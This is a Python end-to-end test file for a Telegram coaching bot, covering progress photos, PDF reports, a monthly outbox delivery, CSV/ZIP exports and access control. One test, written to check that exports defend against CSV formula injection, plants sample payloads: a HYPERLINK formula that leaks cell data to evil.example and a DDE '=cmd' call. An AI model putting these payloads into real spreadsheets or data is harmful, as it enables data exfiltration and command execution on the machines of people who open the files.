"""Progress files end to end: photo comparisons, the PDF report (parsed), the monthly
report through the outbox (once), CSV and ZIP exports (split at the upload limit),
and that another coach's client stays out of reach."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime

import pytest
from PIL import Image
from pypdf import PdfReader
from sqlalchemy import select, update

from coachbot.bot.callbacks import ProgressCb, ReportAction, ReportCb
from coachbot.delivery import progress_jobs
from coachbot.domain.checkins.model import MetricEntry
from coachbot.storage.tables import ClientRow, GeneratedFileRow, ReportPlanRow, UserRow
from coachbot.storage.uow import SqlUnitOfWork
from tests.e2e.checkin_helpers import move_clock_to, onboarded_client
from tests.e2e.conftest import Harness
from tests.e2e.progress_helpers import (
    client_ids,
    open_client_card,
    seed_photo_checkins,
    seed_weights,
)


async def open_progress_menu(harness: Harness) -> None:
    coach = harness.admin
    await open_client_card(coach)
    await coach.press("🗂 Progress & reports")
    await coach.next_bot_message()


async def test_photos_of_two_checkins_side_by_side_as_one_protected_photo(harness: Harness):
    cleo = await onboarded_client(harness)
    await seed_photo_checkins(harness, cleo.id, [8, 4, 1])
    await cleo.send_text("/progress")
    await cleo.next_bot_message()
    await cleo.press("📷 Photos")
    comparison = await cleo.next_bot_message()
    assert comparison.kind == "photo" and comparison.protect_content
    assert comparison.caption == "📷 Jan 5, 2026 → Feb 23, 2026"
    with Image.open(io.BytesIO(comparison.photo)) as image:
        assert image.height > image.width  # two columns, three rows: front, side, back
    await cleo.press("📅 Other check-ins")
    choose = await cleo.next_bot_message()
    assert choose.buttons[0] == ["Jan 5, 2026 · 📷 3", "Feb 2, 2026 · 📷 3"]
    await cleo.press("Feb 2, 2026 · 📷 3")
    later = await cleo.next_bot_message()
    assert later.buttons[0] == ["Feb 23, 2026 · 📷 3", "Cancel"]
    await cleo.press("Feb 23, 2026 · 📷 3")
    assert (await cleo.next_bot_message()).caption == "📷 Feb 2, 2026 → Feb 23, 2026"


async def test_the_pdf_report_has_summary_charts_and_notes_pages(harness: Harness):
    cleo = await onboarded_client(harness)
    await seed_photo_checkins(harness, cleo.id, [3, 2, 1], photos_each=1)
    await seed_weights(harness, cleo.id, [(20, 81.2), (13, 80.4), (6, 79.9), (1, 79.1)])
    async with SqlUnitOfWork(harness.app.session_factory) as uow:
        client = (await uow.clients.list_for_coach(1))[0]
        client.notes = "Knee injury in 2024: no jumping."
        await uow.clients.update(client)
        await uow.commit()
    await open_progress_menu(harness)
    coach = harness.admin
    await coach.press("📄 PDF report (30 days)")
    report = await coach.next_bot_message()
    assert report.kind == "document" and report.file is not None
    assert report.file.file_name == "progress-cleo-park-2026-02-01-2026-03-02.pdf"
    assert report.caption == "👤 Cleo Park · 📄 Progress report, Feb 1, 2026 – Mar 2, 2026"
    assert "upload_document" in coach.chat.actions
    pdf = PdfReader(io.BytesIO(report.document))
    assert len(pdf.pages) == 3
    summary, charts, notes = (page.extract_text() for page in pdf.pages)
    assert "Progress report" in summary and "Cleo Park" in summary
    assert "Measurements" in summary and "Weight" in summary
    assert "3 of 3 check-ins answered (100 %)" in summary
    assert "Charts" in charts and len(pdf.pages[1].images) >= 1
    assert "Coach notes" in notes and "keep the protein up" in notes
    assert "Your private notes" in notes and "Knee injury" in notes  # the coach's copy

    await cleo.send_text("/report")  # the client's own copy: without the private notes
    own = await cleo.next_bot_message()
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(own.document)).pages)
    assert "keep the protein up" in text and "Knee injury" not in text


async def test_a_metric_with_one_entry_is_a_number_in_the_pdf_not_an_empty_chart(
    harness: Harness,
):
    cleo = await onboarded_client(harness)
    await seed_weights(harness, cleo.id, [(20, 81.2), (13, 80.4), (6, 79.9), (1, 79.1)])
    await cleo.send_text("/log waist 82,5")
    await cleo.bot_messages_until_idle()
    await open_progress_menu(harness)
    coach = harness.admin
    await coach.press("📄 PDF report (30 days)")
    report = await coach.next_bot_message()
    pdf = PdfReader(io.BytesIO(report.document))
    charts = pdf.pages[1]
    assert "Waist: 82.5 cm on Mar 2, 2026 (one entry, no chart yet)" in charts.extract_text()
    assert len(charts.images) == 1  # the weight's chart only


async def test_the_monthly_report_arrives_once_through_the_outbox(harness: Harness):
    cleo = await onboarded_client(harness)
    await seed_weights(harness, cleo.id, [(10, 80.0), (3, 79.5)])
    await open_progress_menu(harness)
    coach = harness.admin
    menu = coach.chat.last_bot_message
    tap = await coach.press("📅 Monthly report: off")
    answer = await coach.callback_answer(tap)
    assert answer.text == "Monthly report on: the next arrives on Apr 1, 2026."
    await coach.wait_for(
        lambda chat: ["📅 Monthly report: on"] in chat.get(menu.message_id).buttons
    )

    uc = harness.app.container.use_cases
    blobs = harness.app.container.blobs
    tick = uc.progress.send_monthly_reports  # as the delivery worker has it
    assert await tick() == 0  # not due yet
    move_clock_to(harness, datetime(2026, 4, 1, 7, 5, tzinfo=UTC))  # 09:05 in Berlin
    assert await tick() == 1
    assert await tick() == 0  # a second tick (or a restart) sends nothing twice
    delivered = await cleo.next_bot_message()
    assert delivered.kind == "document"
    assert delivered.caption == "📄 Your progress report for Mar 1, 2026 – Mar 31, 2026."
    assert delivered.document.startswith(b"%PDF")
    assert await cleo.bot_messages_until_idle() == []
    async with harness.app.session_factory() as session:
        plan = (await session.scalars(select(ReportPlanRow))).one()
        (stored,) = (await session.scalars(select(GeneratedFileRow))).all()
    assert plan.next_due_at.replace(tzinfo=UTC) == datetime(2026, 5, 1, 7, 0, tzinfo=UTC)

    purge = uc.progress.purge_generated_files
    assert await purge() == 0  # kept while it may still be sent
    harness.clock.advance(days=4)
    assert await purge() == 1
    with pytest.raises(KeyError):
        await blobs.get(stored.blob_key)
    names = [job.name for job in progress_jobs(uc)]
    assert names == ["monthly-progress-reports", "overdue-goals", "purge-generated-files"]


async def test_export_csv_for_the_client(harness: Harness):
    cleo = await onboarded_client(harness)
    await cleo.send_text("/export")
    assert (await cleo.next_bot_message()).text == "There are no measurements to export yet."
    await seed_weights(harness, cleo.id, [(2, 80.0), (1, 79.6)])
    await cleo.send_text("/log waist 82,5")
    await cleo.bot_messages_until_idle()
    await cleo.send_text("/export")
    exported = await cleo.next_bot_message()
    assert exported.kind == "document"
    assert exported.file.file_name == "metrics-cleo-park-2026-03-02.csv"
    assert exported.caption.startswith("📊 3 measurements as CSV")
    rows = list(csv.DictReader(io.StringIO(exported.document.decode("utf-8-sig"))))
    assert [(r["metric"], r["value"], r["unit"], r["source"]) for r in rows] == [
        ("weight", "80.0", "kg", "log"),
        ("weight", "79.6", "kg", "log"),
        ("waist", "82.5", "cm", "log"),
    ]


@pytest.mark.settings(export_part_mb=0.06)
async def test_the_coach_exports_a_whole_record_as_zip_files_within_the_upload_limit(
    harness: Harness,
):
    cleo = await onboarded_client(harness)
    await seed_photo_checkins(harness, cleo.id, [3, 2, 1])
    await open_progress_menu(harness)
    coach = harness.admin
    await coach.press("📦 Export everything (ZIP)")
    queued = await coach.next_bot_message()
    assert queued.text.startswith("📦 The export of Cleo Park is on its way:")
    count = int(queued.text.split(": ")[1].split()[0])
    assert count >= 2 and f"{count} ZIP files" in queued.text
    # The outbox sends them one a second (Telegram's limit for one chat).
    chat = await coach.wait_for(
        lambda chat: len([m for m in chat.bot_messages if m.kind == "document"]) == count,
        timeout=count * 2 + 5,
    )
    parts = [m for m in chat.bot_messages if m.kind == "document"]
    assert parts[0].caption.endswith(f"Part 1 of {len(parts)}.")
    photos, names = [], []
    for part in parts:
        assert len(part.document) <= 0.06 * 1024 * 1024
        archive = zipfile.ZipFile(io.BytesIO(part.document))
        names += archive.namelist()
        photos += [archive.read(n) for n in archive.namelist() if n.startswith("photos/")]
    assert len(photos) == 9 and all(p[:3] == b"\xff\xd8\xff" for p in photos)  # decrypted
    first = zipfile.ZipFile(io.BytesIO(parts[0].document))
    record = json.loads(first.read("record.json"))
    assert record["client"] == "Cleo Park"
    assert [c["status"] for c in record["checkins"]] == ["reviewed"] * 3
    assert record["profile"][0]["timezone"] == "Europe/Berlin"
    assert "keep the protein up" in first.read("notes.csv").decode("utf-8-sig")
    metrics = list(csv.DictReader(io.StringIO(first.read("metrics.csv").decode("utf-8-sig"))))
    assert len(metrics) == 3
    photo = (
        zipfile.ZipFile(io.BytesIO(parts[-1].document)).read(photos[-1])
        if photos[-1] in zipfile.ZipFile(io.BytesIO(parts[-1].document)).namelist()
        else None
    )
    assert photo is None or photo[:3] == b"\xff\xd8\xff"  # decrypted JPEG


HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(document: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(document.decode("utf-8-sig"))) for cell in row]


async def test_no_csv_the_bot_writes_starts_a_formula_with_what_a_client_typed(
    harness: Harness,
):
    """Every CSV of the client's CSV export and of the coach's ZIP export, scanned whole:
    text a person typed that a spreadsheet would run is written as text ('=...)."""
    cleo = await onboarded_client(harness)
    await seed_weights(harness, cleo.id, [(2, 80.0)])
    await seed_photo_checkins(harness, cleo.id, [1], photos_each=1)
    client_id, user_id, _coach = await client_ids(harness, cleo.id)
    await open_progress_menu(harness)  # the card is found by the name, before it changes
    async with harness.app.session_factory() as session, session.begin():
        await session.execute(
            update(ClientRow)
            .where(ClientRow.id == client_id)
            .values(display_name=HOSTILE, notes="+1 555 0100", tags=["-x"], email="@cleo")
        )
    async with SqlUnitOfWork(harness.app.session_factory) as uow:
        await uow.metrics.add(
            MetricEntry(
                client_id=client_id,
                metric="body_fat",
                value=-1.5,  # a number the bot writes: stays a number
                measured_at=harness.clock.now(),
                created_at=harness.clock.now(),
                source="=cmd|' /C calc'!A0",
            )
        )
        await uow.commit()
    await cleo.send_text("/export")
    documents = [(await cleo.next_bot_message()).document]
    async with harness.app.session_factory() as session, session.begin():
        # After Cleo's last update: each one refreshes her names from Telegram.
        await session.execute(
            update(UserRow)
            .where(UserRow.id == user_id)
            .values(first_name="\t=1+1", last_name="\r=2+2", username="-3+3")
        )
    coach = harness.admin
    await coach.press("📦 Export everything (ZIP)")
    await coach.next_bot_message()
    chat = await coach.wait_for(
        lambda chat: any(m.kind == "document" for m in chat.bot_messages), timeout=10
    )
    for part in [m for m in chat.bot_messages if m.kind == "document"]:
        archive = zipfile.ZipFile(io.BytesIO(part.document))
        documents += [archive.read(n) for n in archive.namelist() if n.endswith(".csv")]
    assert len(documents) >= 10  # the metrics CSV and every table of the record
    cells = [cell for document in documents for cell in csv_cells(document)]
    assert f"'{HOSTILE}" in cells and "'+1 555 0100" in cells and "'\t=1+1" in cells
    assert "-1.5" in cells  # the measurement, unquoted
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and c != "-1.5"]
    assert dangerous == []


@pytest.mark.settings(export_part_mb=0.01)
async def test_an_export_that_cannot_fit_is_refused_with_a_reason(harness: Harness):
    cleo = await onboarded_client(harness)
    await seed_photo_checkins(harness, cleo.id, [1])
    await open_progress_menu(harness)
    coach = harness.admin
    tap = await coach.press("📦 Export everything (ZIP)")
    answer = await coach.callback_answer(tap)
    assert answer.show_alert and "too large for Telegram" in answer.text


async def test_another_coachs_client_stays_out_of_reach(harness: Harness):
    cleo = await onboarded_client(harness)
    await seed_weights(harness, cleo.id, [(1, 80.0)])
    client_id, _user, _coach = await client_ids(harness, cleo.id)
    stranger = harness.user(5555, "Mallory")
    await stranger.send_text("/start")
    await stranger.next_bot_message()
    for data in (
        ProgressCb(view="weight", client_id=client_id),
        ReportCb(action=ReportAction.pdf, client_id=client_id),
    ):
        tap = await stranger.press_data(stranger.chat.last_bot_message.message_id, data.pack())
        answer = await stranger.callback_answer(tap)
        assert answer.text == "That client was not found."
    assert all(m.kind == "text" for m in stranger.chat.bot_messages)
